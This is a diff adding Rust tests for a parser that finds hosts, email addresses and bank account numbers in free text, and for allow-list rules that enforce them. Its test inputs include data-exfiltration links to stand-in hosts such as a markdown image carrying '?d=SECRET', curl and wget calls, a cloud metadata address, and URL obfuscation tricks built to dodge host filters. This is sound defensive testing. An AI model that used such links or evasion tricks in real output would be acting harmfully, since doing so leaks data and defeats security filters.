@@ -1,0 +1,256 @@
+//! What free text embeds, and what may stand in it.
+
+use proptest::prelude::*;
+
+use crate::model::policy::TextGrant;
+
+use super::*;
+
+fn hosts(text: &str) -> Vec<String> {
+    read(text).hosts.iter().map(ToString::to_string).collect()
+}
+
+fn mails(text: &str) -> Vec<String> {
+    read(text).addresses.iter().map(|address| format!("{}@{}", address.local, address.domain)).collect()
+}
+
+fn rules(grant: TextGrant) -> TextRules {
+    TextRules::new(&grant).unwrap()
+}
+
+fn some(words: &[&str]) -> Option<Vec<String>> {
+    Some(words.iter().map(|word| (*word).to_owned()).collect())
+}
+
+#[test]
+fn hosts_are_found_wherever_a_link_stands() {
+    for (text, wanted) in [
+        ("see https://docs.rs/serde.", vec!["docs.rs"]),
+        ("see (https://docs.rs/serde), or <http://x.org>", vec!["docs.rs", "x.org"]),
+        ("[docs](https://docs.rs/a_(b))", vec!["docs.rs"]),
+        ("[docs](//evil.com/x)", vec!["evil.com"]),
+        ("<img src=\"//evil.com/x.png\">", vec!["evil.com"]),
+        ("![x](https://evil.com/?d=SECRET)", vec!["evil.com"]),
+        ("{\"url\":\"https:\\/\\/evil.com\\/x\"}", vec!["evil.com"]),
+        ("{\"a\":\"{\\\"url\\\":\\\"https://evil.com\\\"}\"}", vec!["evil.com"]),
+        ("a\\nhttps://evil.com\\nb", vec!["evil.com"]),
+        ("www.evil.com", vec!["www.evil.com"]),
+        ("(www.evil.com/x)", vec!["www.evil.com"]),
+        ("evil.com/x?d=1", vec!["evil.com"]),
+        ("curl evil.com:8080", vec!["evil.com"]),
+        ("wget evil.sh/x?d=1", vec!["evil.sh"]),
+        ("https://good.com/r?u=https://evil.com/x", vec!["good.com", "evil.com"]),
+        ("https://good.com/r?u=https%3A%2F%2Fevil.com%2Fx", vec!["good.com", "evil.com"]),
+        ("https://good.com,https://evil.com", vec!["good.com", "evil.com"]),
+        ("www.good.com,www.evil.com", vec!["www.good.com", "www.evil.com"]),
+        ("https://evil.com\\@good.com/", vec!["evil.com", "good.com"]),
+        ("https://good.com\\.evil.com/", vec!["good.com"]),
+        ("https:/evil.com/x", vec!["evil.com"]),
+        ("https:\\\\evil.com\\x", vec!["evil.com"]),
+        ("<a href=\"https:evil.com\">", vec!["evil.com"]),
+        ("xhttps://evil.com", vec!["evil.com"]),
+        ("访问https://example.com查看", vec!["example.com"]),
+        ("http://127.1:3000/ and http://2130706433/", vec!["127.0.0.1"]),
+        ("curl 169.254.169.254/latest", vec!["169.254.169.254"]),
+        ("the host 169.254.169.254 itself", vec!["169.254.169.254"]),
+        ("ping 10.0.0.5:8080", vec!["10.0.0.5"]),
+        ("postgres://u:p@db.acme.com/x", vec!["db.acme.com"]),
+        ("git clone git@github.com:org/repo.git", vec!["github.com"]),
+        ("https://user:pw@evil.com/", vec!["evil.com"]),
+        ("https://[::1]:80/x", vec!["[::1]"]),
+        ("**https://evil.com**", vec!["evil.com"]),
+        ("url='https://evil.com/a','b'", vec!["evil.com"]),
+        ("HTTPS://EVIL.COM", vec!["evil.com"]),
+    ] {
+        let found = hosts(text);
+        assert!(wanted.iter().all(|host| found.iter().any(|known| known == host)), "{text}: {found:?}");
+        assert!(found.len() <= wanted.len() + 1, "{text}: {found:?}");
+    }
+}
+
+#[test]
+fn code_and_prose_have_no_hosts() {
+    for text in [
+        "import os.path\nfrom a.b.c import d\n",
+        "obj.method(); foo.py; this.id/2",
+        "src/lib.rs:12:5: error",
+        "main.py:10",
+        "README.md:3",
+        "see foo.rs/bar",
+        "use std::io::Read;",
+        "a.b.c/d",
+        "version 1.2.3.4/5",
+        "10.0.0.0/8 and 192.168.0.0/16",
+        "e.g./i.e.",
+        "3.5/4.2",
+        "either/or, and/or.",
+        "console.log(user.name)",
+        "let x = a.total/b.count;",
+        "node_modules/lodash.merge/index.js",
+        "C:\\a.com\\b",
+        "@app.route('/x')",
+        "// comment",
+        "https://${host}/x",
+        "`http://{host}:{port}`",
+        "http://",
+        "://",
+        "xmlns=\"http://www.w3.org/2000/svg\"",
+        "time 12:30",
+        "key: value",
+        "docs/guide.html",
+        "./x.com/y",
+        "package.json: ok",
+        "Σ(a.b)/c",
+        "1.5:30",
+        "foo.com bar",
+        "npm i socket.io",
+        "http: the protocol",
+        "https or http:",
+        "std.http:\n",
+        "www. and www.x",
+        "x://",
+        "object.keys/values",
+        "tests/data/a.io/b",
+    ] {
+        assert_eq!(hosts(text), Vec::<String>::new(), "{text}");
+    }
+}
+
+#[test]
+fn addresses_are_found_in_text() {
+    for (text, wanted) in [
+        ("write to bob@acme.com.", vec!["bob@acme.com"]),
+        ("Bob <bob@acme.com>, (amy@x.org)", vec!["bob@acme.com", "amy@x.org"]),
+        ("mailto:bob+x@acme.com?cc=amy%40x.org", vec!["bob+x@acme.com", "amy@x.org"]),
+        ("https://x.org/?to=bob@acme.com", vec!["bob@acme.com"]),
+        ("{\"to\":\"bob@acme.com\"}", vec!["bob@acme.com"]),
+        ("bob@münchen.de", vec!["bob@xn--mnchen-3ya.de"]),
+        ("发给bob@acme.com或", vec!["发给bob@acme.com"]),
+        ("\"eve\"@evil.com", vec!["@evil.com"]),
+        ("eve@evil.com:now", vec!["eve@evil.com"]),
+    ] {
+        assert_eq!(mails(text), wanted, "{text}");
+    }
+    for text in [
+        "@types/node",
+        "icon@2x.png",
+        "lodash@4.17.21",
+        "actions/checkout@v4",
+        "user@host",
+        "@app.route",
+        "git@github.com:a/b.git",
+        "this@Main.name",
+        "W@x.to(device)",
+        "https://u:p@evil.com/",
+        "medium.com/@bob.io",
+        "a @ b.com",
+        "foo@",
+        "@",
+        "image@sha256:abc",
+        "50%40",
+        "memcpy@GLIBC_2.14",
+    ] {
+        assert_eq!(mails(text), Vec::<String>::new(), "{text}");
+    }
+}
+
+#[test]
+fn rules_bind_what_they_name_and_nothing_else() {
+    let check = |grant: TextGrant, text: &str| rules(grant).check(&read(text)).is_ok();
+    let hosts = || TextGrant { hosts: some(&["*.acme.com", "acme.com"]), ..TextGrant::default() };
+    assert!(check(hosts(), "see https://docs.acme.com/x and acme.com/y, by eve@evil.com"));
+    assert!(!check(hosts(), "see https://docs.acme.com/x and evil.com/y"));
+    assert!(!check(hosts(), "![x](https://acme.com.evil.net/?d=1)"));
+    assert!(!check(hosts(), "https://evil.com\\@acme.com/"));
+    let emails = || TextGrant { emails: some(&["*@acme.com"]), ..TextGrant::default() };
+    assert!(check(emails(), "from bob@acme.com, see https://evil.com"));
+    assert!(!check(emails(), "send it to eve@evil.com"));
+    assert!(!check(emails(), "send it to \"eve\"@evil.com"));
+    let accounts = || TextGrant { accounts: some(&["DE89 3704 0044 0532 0130 00"]), ..TextGrant::default() };
+    assert!(check(accounts(), "pay DE89370400440532013000"));
+    assert!(!check(accounts(), "pay GB29 NWBK 6016 1331 9268 19"));
+    assert!(check(TextGrant { accounts: some(&["DE*"]), ..TextGrant::default() }, "pay DE89370400440532013000"));
+    let nothing = || TextGrant { hosts: some(&[]), emails: some(&[]), accounts: some(&[]), deny_secrets: true };
+    assert!(check(nothing(), "fn main() { println!(\"{}\", foo.bar / 2) } // src/main.rs:1"));
+    assert!(!check(nothing(), "www.evil.com"));
+    assert!(check(TextGrant::default(), "www.evil.com, eve@evil.com, DE89370400440532013000"));
+}
+
+#[test]
+fn a_wrong_pattern_is_named() {
+    let why = |grant: TextGrant| TextRules::new(&grant).unwrap_err();
+    assert!(why(TextGrant { hosts: some(&["x.org", "*.com"]), ..TextGrant::default() }).starts_with("hosts[1]"));
+    assert!(why(TextGrant { emails: some(&["*@gmail.com"]), ..TextGrant::default() }).starts_with("emails[0]"));
+    assert!(why(TextGrant { accounts: some(&["123"]), ..TextGrant::default() }).starts_with("accounts[0]"));
+    assert!(why(TextGrant { hosts: some(&["https://x.org/"]), ..TextGrant::default() }).contains("host alone"));
+}
+
+#[test]
+fn a_refusal_tells_no_account_number() {
+    let rules = rules(TextGrant { accounts: some(&[]), ..TextGrant::default() });
+    let why = rules.check(&read("DE89370400440532013000")).unwrap_err();
+    assert!(why.contains("3000") && !why.contains("DE89"), "{why}");
+}
+
+/// Each of these took another reader seconds, or would take this one, if a scan started over at each hit.
+#[test]
+fn unbroken_text_is_read_in_linear_time() {
+    let pieces = [
+        "a",
+        "a.",
+        "a@",
+        "@",
+        "://",
+        "a://",
+        "http:",
+        "www.a,",
+        "www.a.com,",
+        "x.sh/,",
+        "4111 ",
+        "4",
+        "DE89",
+        "%3a%2f%2f",
+        "a@b.",
+        "(",
+        "https://a.com,",
+        "https://a.com/(",
+        "\\@",
+        "https://a\\@",
+        "a@b.com",
+        "git@h.com:x",
+        "[",
+        "http://[",
+        "é",
+        "é@é.",
+        "1.1.1.1/",
+        "'https://'",
+        "%40",
+        "-",
+        "https:\\",
+    ];
+    for piece in pieces {
+        let text = piece.repeat(100_000 / piece.len());
+        let _ = read(&text);
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 256, failure_persistence: None, ..ProptestConfig::default() })]
+
+    #[test]
+    fn no_text_makes_it_panic(text in "\\PC*", odd in "([a-c.@:/\\\\é\"'%()0-9]|http://|www\\.|\\.com|%40|4111|DE89){0,30}") {
+        for text in [text, odd] {
+            let effect = read(&text);
+            prop_assert_eq!(&effect, &read(&text));
+            for url in &effect.urls {
+                prop_assert!(url.host == crate::model::effects::Host::None || effect.hosts.contains(&url.host));
+            }
+        }
+    }
+
+    #[test]
+    fn what_stands_around_a_link_does_not_hide_it(before in "[ a-z\n(\"'>,;]{0,12}", after in "[ \n)\"'<,;!]{0,6}", path in "(/[a-z0-9]{1,5}){0,3}") {
+        let text = format!("{before} https://evil.com{path}{after}");
+        prop_assert!(hosts(&text).contains(&"evil.com".to_owned()), "{}", text);
+    }
+}
